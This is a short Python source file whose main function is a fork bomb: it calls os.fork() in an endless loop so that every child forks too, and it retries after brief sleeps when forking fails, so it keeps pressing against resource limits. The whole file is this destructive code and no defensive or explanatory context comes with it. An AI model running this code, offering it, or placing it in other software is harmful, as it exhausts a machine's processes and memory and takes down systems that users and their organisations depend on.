import os
import time


def main():
    """Fork without bound; every child forks too."""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
